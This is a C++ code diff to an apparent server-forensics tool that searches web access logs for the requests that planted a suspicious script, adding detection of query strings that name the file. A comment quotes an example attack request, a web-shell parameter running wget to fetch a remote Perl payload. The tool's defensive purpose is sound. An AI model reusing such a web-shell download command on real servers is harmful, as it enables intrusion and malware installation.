@@ -34,14 +34,18 @@ class RequestSearch {
     // A site whose owner is not known is looked at alone.
     if (site_.account.empty() || (own != nullptr && own->account != site_.account))
       site_ = {{}, own != nullptr ? own->domain : target.domain, {}};
+    // In /tmp, of the user that runs all sites: each of them may be the one it came through.
+    trace.is_anybodys = site_.account.empty() && site_.domain.empty();
     for (const Site& site : server.sites) add_place(site);
   }
 
   void run() {
     find_logs();
-    for (const SiteLogSegments& log : logs_)
-      read(log, log.segments,
-           [&](const AccessRequest& request, const EntryLine& line) { see_first(request, line); });
+    if (!trace_.is_anybodys)  // thousands of logs, and none of its pages
+      for (const SiteLogSegments& log : logs_)
+        read(log, log.segments, [&](const AccessRequest& request, const EntryLine& line) {
+          see_first(request, line);
+        });
     if (first_request_tells()) trace_.moments.push_back(trace_.first_request->at);
     for (const SiteLogSegments& log : logs_)
       read(log, segments_around(log.segments, trace_.moments, kNearChange, kNearAfter),
@@ -116,8 +120,7 @@ class RequestSearch {
   template <class See>
   void read(const SiteLogSegments& log, const std::vector<LogSegment>& segments, See see) {
     log_ = log.log;
-    const std::string_view name =
-        std::string_view(target_.path).substr(target_.path.rfind('/') + 1);
+    const std::string_view name = file_name();
     bool is_first = true;
     read_entry_log(
         root_, options_, *log.log, segments,
@@ -158,8 +161,12 @@ class RequestSearch {
     return paths_.contains(request_path(request));
   }
 
+  void see_reach(Time at) {
+    if (!trace_.web_from || at < *trace_.web_from) trace_.web_from = at;
+  }
+
   void see_first(const AccessRequest& request, const EntryLine& line) {
-    if (!trace_.web_from || request.at < *trace_.web_from) trace_.web_from = request.at;
+    see_reach(request.at);
     const bool is_earlier = !trace_.first_request || request.at < trace_.first_request->at;
     // Scanners ask for files that are not there yet.
     const bool was_served = request.status < 400 || request.status >= 500;
@@ -168,12 +175,42 @@ class RequestSearch {
   }
 
   void see_write(const AccessRequest& request, const EntryLine& line) {
+    if (trace_.is_anybodys) see_reach(request.at);
+    const bool names = names_file(request);
     const bool is_write = request.method == "POST" || request.method == "PUT";
-    if (!is_write || request.status >= 400 || trace_.writes.size() >= kWrites ||
-        !is_near_moment(request.at))
+    // Of all sites' POSTs in two minutes none says anything.
+    if (!names && (!is_write || trace_.is_anybodys)) return;
+    if (request.status >= 400 || trace_.writes.size() >= kWrites || !is_near_moment(request.at))
       return;
     if (is_for_file(request) && request.method != "PUT") return;  // that is its use
-    if (auto record = record_of(request, line)) trace_.writes.push_back(std::move(*record));
+    auto record = record_of(request, line);
+    if (!record) return;
+    record->names_file = names;
+    trace_.writes.push_back(std::move(*record));
+  }
+
+  // "x.php?c=wget+http://.../dm.pl": a query with the file's whole name in it.
+  bool names_file(const AccessRequest& request) const {
+    if (!target_.wants_same_name) return false;
+    const std::string_view query =
+        request.target.substr(std::min(request.target.find('?'), request.target.size()));
+    const std::string_view name = file_name();
+    const std::size_t at = query.find(name);
+    if (at == std::string_view::npos || at == 0) return false;
+    const std::string_view rest = query.substr(at + name.size());
+    const bool goes_on = !rest.empty() && (is_alphanumeric(rest[0]) || rest[0] == '.');
+    return !goes_on && !ends_in_a_word(query.substr(0, at));
+  }
+
+  // "%2Fdm.pl" begins with the name, "adm.pl" does not.
+  static bool ends_in_a_word(std::string_view before) {
+    const bool is_escape = before.size() > 2 && before[before.size() - 3] == '%';
+    return !is_escape && (is_alphanumeric(before.back()) || before.back() == '-' ||
+                          before.back() == '_' || before.back() == '.');
+  }
+
+  std::string_view file_name() const {
+    return std::string_view(target_.path).substr(target_.path.rfind('/') + 1);
   }
 
   bool is_near_moment(Time at) const {
@@ -198,7 +235,6 @@ class RequestSearch {
 
 void find_entry_requests(const RootDir& root, const Server& server, const SurveyOptions& options,
                          const ScriptTarget& target, Survey& survey, ScriptTrace& trace) {
-  if (target.account.empty() && target.domain.empty()) return;
   RequestSearch(root, server, options, target, survey, trace).run();
 }
 
